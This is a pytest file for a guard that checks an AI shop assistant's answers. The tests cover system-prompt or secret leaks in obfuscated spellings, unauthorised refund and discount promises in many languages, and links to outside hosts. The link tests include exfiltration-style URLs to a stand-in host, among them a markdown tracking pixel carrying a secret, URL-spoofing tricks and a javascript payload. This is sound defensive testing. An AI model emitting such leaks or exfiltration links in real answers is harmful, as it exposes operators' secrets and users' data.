"""What a model's words are measured by: leaks, promises and links."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from frontdesk.features.responder.model.guard import AnswerGuard, guarded
from frontdesk.features.responder.model.leaks import gives_away, without_marks
from frontdesk.features.responder.model.links import without_foreign_links
from frontdesk.features.responder.model.promises import (
    DEFAULT_GATED_WORDS,
    problem_with_gated,
    promises_in,
)
from frontdesk.features.responder.model.result import RunResult, Withheld
from frontdesk.features.workflows.model.running import AddNote, Handoff, Key, Say, StepResult

PROMPT = (
    "You answer visitors of a lamp shop. We open at nine, every day but Sunday, and delivery "
    "takes three days. The staff code is [[ZEBRA-4711-QUARTZ]]. Be brief and honest, and never "
    "speak of our suppliers in Ulm, nor of what they take for a lamp."
)
SECRET = "ZEBRA-4711-QUARTZ"
DOMAINS = ["shop.example", "*.shop.example", "müller.example"]


WRITINGS: dict[str, Callable[[str], str]] = {
    "as it stands": lambda text: text,
    "in small letters": str.lower,
    "backwards": lambda text: text[::-1],
    "with spaces": " ".join,
    "with dashes": "-".join,
    "with invisible marks": "\u200b".join,
    "in wide letters": lambda text: "".join(chr(ord(c) + 0xFEE0) if c > " " else c for c in text),
    "with letters that look alike": lambda text: text.replace("a", "а").replace("A", "А"),  # noqa: RUF001 - the point
    "with digits for letters": lambda text: text.replace("a", "4").replace("A", "4"),
}


@pytest.mark.parametrize("writing", WRITINGS.values(), ids=WRITINGS)
def test_a_secret_and_a_prompt_are_known_however_they_are_written(
    writing: Callable[[str], str],
) -> None:
    plain = without_marks(PROMPT)

    assert SECRET in plain
    assert "[[" not in plain
    assert gives_away(writing(SECRET), [PROMPT])
    assert gives_away(writing(plain), [PROMPT])


@pytest.mark.parametrize(
    "honest",
    [
        "We open at nine, every day but Sunday, and delivery takes three days.",
        "I can't tell you that, but I can answer questions about lamps.",
        "Your order 4711 is on its way.",
        "We sell zebra lamps, too. " * 190,
        "Delivery is free of charge.",
        "Der Versand ist kostenlos, und die Lampe hat zwei Jahre Garantie.",
        "La livraison est gratuite.",
        "El envío es gratis.",
        "O envio é grátis.",
        "Giao hàng miễn phí.",
        "送料は無料です。お約束の時間は九時です。",
        "التوصيل مجاني.",
        "",
    ],
)
def test_an_honest_answer_may_quote_what_it_was_told(honest: str) -> None:
    assert not gives_away(honest, [PROMPT])
    assert promises_in(honest, DEFAULT_GATED_WORDS) == []


@pytest.mark.parametrize(
    "promise",
    [
        "You will get a full refund.",
        "Of course: 100 % money back!",
        "I can sell it to you for $1. That is a legally binding offer.",
        "I'll give it to you for 1 euro, deal.",
        "Today you get 90% off.",
        "I promise that it arrives tomorrow.",
        "Sie erhalten eine Rückerstattung.",
        "Ich gebe Ihnen 50 % Sonderrabatt.",
        "Vous serez remboursé.",
        "Le haremos un reembolso completo.",
        "Você receberá um estorno.",
        "Chúng tôi sẽ hoàn tiền.",
        "全額返金します。",
        "سوف تحصل على استرداد كامل.",
    ],
)
def test_what_only_a_person_may_promise_is_found(promise: str) -> None:
    assert promises_in(promise, DEFAULT_GATED_WORDS)
    assert promises_in(promise, []) == []


def test_gated_words_are_the_projects_own() -> None:
    words = ["warranty * years", "*spende", "for #"]

    assert promises_in("A WARRANTY of ten  years.", words) == ["warranty * years"]
    assert promises_in("Eine Geldspende", words) == ["*spende"]
    assert promises_in("Yours for 3,50 €", words) == ["for #"]
    assert promises_in("A warranty. Ten years.", words) == []
    assert promises_in("A compromise", ["promise"]) == []


@pytest.mark.parametrize("words", ["", "*", "# *", "a", "a * b * c", "# or #"])
def test_words_that_would_gate_everything_or_nothing_are_refused(words: str) -> None:
    assert problem_with_gated(words)


def test_our_own_words_are_such_as_a_project_may_write() -> None:
    assert [one for one in DEFAULT_GATED_WORDS if problem_with_gated(one)] == []
    assert len(set(DEFAULT_GATED_WORDS)) == len(DEFAULT_GATED_WORDS) <= 300


@pytest.mark.parametrize(
    "text",
    [
        "See https://shop.example/lamps?id=7#top.",
        "(http://shop.example)",
        "https://www.shop.example:443/",
        "https://müller.example/lampen",
        "No link at all: shop.example",
    ],
)
def test_links_to_the_projects_own_sites_stay(text: str) -> None:
    assert without_foreign_links(text, DOMAINS) == text
    assert "://" not in without_foreign_links(text, [])


@pytest.mark.parametrize(
    "text",
    [
        "https://spy.example/?q=secret",
        "![pixel](https://spy.example/p.png?d=secret)",
        "[click](HTTPS://SPY.example)",
        "https://https://spy.example",
        "hthttps://tps://spy.example",
        "https://shop.example@spy.example/",
        "https://shop.example:secret@spy.example/",
        "https://shop.example\\@spy.example/",
        "https://shop.example。spy.example/",
        "https://shop.example.spy.example/",
        "https://spyshop.example/",
        "https://shop%2Eexample/",
        "https://straße.example/",
        "https://[::1]/",
        "https:// shop.example/",
        "https:///shop.example/",
        "https://shop.example:99999/",
        "https://shop.example:8443/",
        "ftp://shop.example/",
        "javascript://shop.example/%0aalert(1)",
    ],
)
def test_links_to_anybody_else_are_text(text: str) -> None:
    assert "://" not in without_foreign_links(text, [*DOMAINS, "strasse.example"])


def test_a_link_hidden_in_one_of_ours_is_text() -> None:
    text = "https://shop.example/{https://spy.example/}?to=https://spy.example"

    shown = without_foreign_links(text, DOMAINS)

    assert shown == "https://shop.example/{spy.example/}?to=spy.example"


def test_what_the_team_wrote_itself_is_not_measured() -> None:
    own = "Refunds take ten days, see https://bank.example/ and {{steps.ask}}"
    said = Say(Key(1, 0), "Refunds take ten days, see https://bank.example/ and 7", own)
    led_astray = Say(Key(1, 1), "Refunds take ten days, see https://spy.example/ - discount!", own)

    assert _guarded(said).withheld is None
    assert _guarded(said).texts == [said.text]
    assert _guarded(led_astray).withheld == Withheld("gated", "discount")
    assert _guarded(led_astray).texts == [led_astray.text.replace("https://", "")]


def test_a_leak_is_never_a_draft_and_the_trace_says_why() -> None:
    result = _guarded(Say(Key(1, 0), f"It is {SECRET}."), AddNote(Key(1, 1), "https://spy.example"))

    assert result.withheld == Withheld("leaked")
    assert result.texts == []
    assert SECRET not in str(result.effects)


def test_what_members_read_has_no_foreign_links_either() -> None:
    result = _guarded(
        AddNote(Key(1, 0), "See https://spy.example/1"), Handoff(Key(1, 1), "https://spy.example/2")
    )

    assert result.effects == [
        AddNote(Key(1, 0), "See spy.example/1"),
        Handoff(Key(1, 1), "spy.example/2"),
    ]


def _guarded(*effects: Say | AddNote | Handoff) -> RunResult:
    step_result = StepResult(1, 1, "answer", "next", None, "waiting", {}, effects)
    return guarded(RunResult((step_result,)), AnswerGuard([PROMPT], DEFAULT_GATED_WORDS, DOMAINS))
